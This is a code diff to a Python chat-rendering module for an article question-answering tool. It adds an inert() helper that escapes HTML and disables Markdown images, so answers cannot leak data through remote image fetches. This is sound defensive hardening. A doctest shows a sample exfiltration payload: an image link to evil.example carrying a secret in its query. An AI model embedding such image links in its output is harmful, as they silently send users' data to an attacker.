@@ -18,25 +18,44 @@ CONTEXT_CHARS = 320
 ELLIPSIS = "…"
 REFUSAL = "The articles don't say."
 MARKER = re.compile(r"\[(\d+)\]")
+_IMAGE = re.compile(r"!(?=\[)")  # Markdown image syntax: ![alt](url) and ![alt][ref]
 # A marker as link_markers() writes it. Answer text is escaped before markers are linked,
 # so this exact markup can only come from us: unlinking it never touches the answer's text.
 LINKED_MARKER = re.compile(r'<a class="nq-cite" href="#nq-source-\d+"[^>]*>(\[\d+\])</a>')
 
 
+def inert(text: str) -> str:
+    """Text for a Markdown chat bubble that makes the viewer's browser fetch nothing: HTML
+    escaped, and each image's "![" written "!\\[", so that it shows as text. (A remote
+    image in an article, a reply or a question would be fetched by every viewer, with
+    whatever its address carries: an exfiltration channel.)
+
+    >>> print(inert('![x](http://evil.example/?q=secret) <img src="http://evil.example">'))
+    !\\[x](http://evil.example/?q=secret) &lt;img src="http://evil.example"&gt;
+    """
+    return _IMAGE.sub(r"!\\", html.escape(text, quote=False))
+
+
+def user_markdown(question: str) -> str:
+    """The chat bubble for the user's question: shown as typed, loading nothing."""
+    return inert(question)
+
+
 def answer_markdown(answer: Answer) -> str:
-    """The chat bubble for an answer: its text (HTML escaped, Markdown kept, each [n] with
+    """The chat bubble for an answer: its text (inert: HTML escaped, Markdown kept but no
+    image, each [n] with
     a source linked to it), marked as not-in-the-articles when refused, and a warning
     for unsupported sentences.
 
     >>> answer_markdown(Answer(text="Two troops died [1]."))
     'Two troops died [1].'
     """
-    text = html.escape(answer.text.strip(), quote=False)
+    text = inert(answer.text.strip())
     text = link_markers(text, {citation.marker for citation in answer.citations})
     parts = [_refusal_markdown(text) if answer.refused else text]
-    parts += [f"*{html.escape(note, quote=False)}*" for note in answer.notes]
+    parts += [f"*{inert(note)}*" for note in answer.notes]
     if answer.unsupported:
-        quoted = "; ".join(f"“{html.escape(s, quote=False)}”" for s in answer.unsupported)
+        quoted = "; ".join(f"“{inert(s)}”" for s in answer.unsupported)
         parts.append(f"> **Check before relying on it**, not found in the cited passages: {quoted}")
     return "\n\n".join(parts)
 
@@ -79,12 +98,12 @@ def _refusal_markdown(text: str) -> str:
 
 def streaming_markdown(text: str) -> str:
     """Text still arriving, with a cursor so it reads as unfinished."""
-    return html.escape(text, quote=False) + " ▍"
+    return inert(text) + " ▍"
 
 
 def error_markdown(error: Exception) -> str:
     """An error as a chat bubble: the project's own message says what to do."""
-    return f"**Could not answer:** {html.escape(str(error), quote=False)}"
+    return f"**Could not answer:** {inert(str(error))}"
 
 
 def passage_bounds(text: str, start: int, end: int,
@@ -232,4 +251,4 @@ def status_markdown(status: Mapping[str, object]) -> str:
 
 def status_error_markdown(error: Exception) -> str:
     """The status line when the engine cannot report (index missing, store down, ...)."""
-    return f"**Not ready:** {html.escape(str(error), quote=False)}"
+    return f"**Not ready:** {inert(str(error))}"
